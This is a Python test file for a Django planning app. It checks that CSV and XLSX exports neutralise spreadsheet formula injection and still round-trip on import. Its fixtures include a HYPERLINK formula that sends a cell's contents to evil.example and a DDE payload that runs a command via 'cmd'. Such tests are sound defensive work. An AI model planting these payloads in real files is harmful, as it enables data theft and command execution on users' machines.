"""Every CSV and XLSX the system writes neutralises formulas, and the actions export round-trips.

The writers: the actions export (CSV, XLSX; web page and command line), a
rejected batch's problems.csv, and the CSV of `safeplan results`, `scorecard`,
`spc` and `target list` (one helper). JSON output is data for programs, which
no spreadsheet runs, and is left exactly as it is (ADR 0018).
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from django.test import Client

from safeplan.actions.files import actions_export, actions_import
from safeplan.actions.models import Action
from safeplan.actions.services import ActionInput, action_create
from safeplan.cli import main
from safeplan.imports.services import import_file
from safeplan.measures.services import results_compute_after_import
from safeplan.plans.services import plan_load_default
from safeplan.scorecard.services import target_set
from safeplan.submission.selectors import batch_problems_csv
from safeplan.tabular.export import TRIGGERS, neutralise

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Open")'
TITLES = [
    HYPERLINK,
    "+44 191 383 3000",  # a phone number a spreadsheet would add up
    "-5",  # a number written as a title: it stays as it is
    "@mention the lead",
    "'quoted on purpose",  # a title that really starts with a quote keeps it
    "'=not ours",
    "-1 day late",
]
BASE = ActionInput(
    intervention_key="prevent-cse",
    title="",
    owner="CSE lead",
    agency="Police",
    themes=(),
    start_date=date(2024, 1, 1),
    due_date=date(2024, 6, 30),
    percent_complete=0,
    status="in progress",
)


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _runs_in_a_spreadsheet(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and neutralise(cell) != cell


@pytest.fixture
def actions(db: None) -> list[Action]:
    plan_load_default()
    return [
        action_create(data=replace(BASE, title=title, owner=title, description=title), by=None)
        for title in TITLES
    ]


def test_the_actions_csv_export_has_no_cell_a_spreadsheet_would_run(actions: list[Action]) -> None:
    rows = _csv(actions_export("csv"))
    titles = [row[2] for row in rows[1:]]
    assert titles == [
        "'" + HYPERLINK,
        "'+44 191 383 3000",
        "-5",
        "'@mention the lead",
        "''quoted on purpose",
        "''=not ours",
        "'-1 day late",
    ]
    assert not [c for row in rows for c in row if _runs_in_a_spreadsheet(c)]


def test_the_actions_xlsx_export_writes_text_as_strings_never_formulas(
    actions: list[Action],
) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(actions_export("xlsx")))["actions"]
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [(t, "s") for t in TITLES]
    assert [c.quotePrefix for c in cells] == [True, True, False, True, False, False, True]
    ids = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {c.data_type for c in ids} == {"n"}  # numbers stay numbers


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imported_again_gives_back_every_title_exactly(
    actions: list[Action], tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"actions.{fmt}"
    path.write_bytes(actions_export(fmt))
    outcome = actions_import(path=path, by=None)
    assert (outcome.problems, outcome.updated) == ([], len(TITLES))
    stored = list(Action.objects.order_by("id").values_list("title", "owner", "description"))
    assert stored == [(t, t, t) for t in TITLES]


def test_the_export_downloaded_from_the_web_page_is_the_neutralised_one(
    actions: list[Action], admin_client: Client
) -> None:
    response = admin_client.get("/actions/export.csv")
    assert _csv(response.content)[1][2] == "'" + HYPERLINK


def test_the_problems_report_neutralises_the_values_it_quotes(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    path.write_text(
        f'referral_id,child_id,referral_date\n"=1+2",C1,"{HYPERLINK.replace(chr(34), 2 * chr(34))}"\n'
    )
    outcome = import_file(dataset="referrals", path=path, submitted_by="t")
    [header, row] = _csv(batch_problems_csv(outcome.batch))
    assert header == ["row", "column", "value", "rule", "message"]
    assert row[:4] == ["2", "referral_date", "'" + HYPERLINK, "R-V02"]


def test_the_results_csv_neutralises_a_group_named_like_a_formula(tmp_path: Path) -> None:
    plan_load_default()
    path = tmp_path / "r.csv"
    path.write_text("referral_id,child_id,referral_date,locality\nR1,C1,2018-04-02,=1+2\n")
    outcome = import_file(dataset="referrals", path=path, submitted_by="t")
    assert outcome.accepted
    results_compute_after_import(outcome.batch)
    result = CliRunner().invoke(main, ["results", "--measure", "M1", "--breakdown", "locality"])
    assert result.exit_code == 0, result.output
    groups = {row["group"] for row in csv.DictReader(io.StringIO(result.output))}
    assert "'=1+2" in groups
    assert "=1+2" not in groups


def test_the_target_list_csv_neutralises_a_note(db: None) -> None:
    target_set(measure="M3", value=60, effective_from=date(2018, 4, 1), by="ana",
               note="@SUM(1+1)*cmd|' /C calc'!A0")  # fmt: skip
    result = CliRunner().invoke(main, ["target", "list"])
    [row] = csv.DictReader(io.StringIO(result.output))
    assert row["note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_spc_csv_keeps_negative_numbers_as_numbers(tmp_path: Path) -> None:
    path = tmp_path / "series.csv"
    values = [-3, -1, -4, -1, -5, -9, -2, -6, -5, -3, -5, -8, -9, -7, -9]
    months = [f"{2019 + (i + 3) // 12}-{(i + 3) % 12 + 1:02d}-01" for i in range(len(values))]
    path.write_text(
        "date,value\n" + "".join(f"{m},{v}\n" for m, v in zip(months, values, strict=True))
    )
    result = CliRunner().invoke(main, ["spc", "--series", str(path), "--direction", "up"])
    assert result.exit_code == 0, result.output
    points = list(csv.DictReader(io.StringIO(result.output.split("\n\n")[0])))
    assert [p["value"] for p in points] == [f"{v:.1f}" for v in values]
    assert float(points[0]["mean"]) < 0
